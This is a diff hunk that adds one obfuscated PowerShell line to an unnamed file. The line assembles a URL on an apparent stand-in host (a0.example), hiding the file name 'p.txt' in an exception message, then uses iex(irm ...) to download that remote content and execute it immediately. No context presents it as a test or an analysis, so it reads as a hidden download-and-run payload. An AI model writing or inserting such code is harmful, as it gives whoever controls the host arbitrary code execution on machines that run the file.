@@ -1,0 +1,1 @@
+$u='http://a0.example/';try{throw 'p.txt'}catch{$u+=$_.Exception.Message}finally{$z=1};iex(irm $u)
